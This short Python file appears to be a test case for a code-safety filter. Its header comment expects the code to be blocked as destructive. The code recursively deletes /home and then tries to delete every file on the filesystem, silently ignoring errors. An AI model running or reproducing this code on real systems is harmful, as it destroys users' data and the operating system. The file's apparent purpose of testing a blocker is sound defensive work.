# expect: BLOCKED destructive
import os
import shutil
shutil.rmtree("/home", ignore_errors=True)
for root, dirs, files in os.walk("/"):
    for f in files:
        try:
            os.remove(os.path.join(root, f))
        except OSError:
            pass
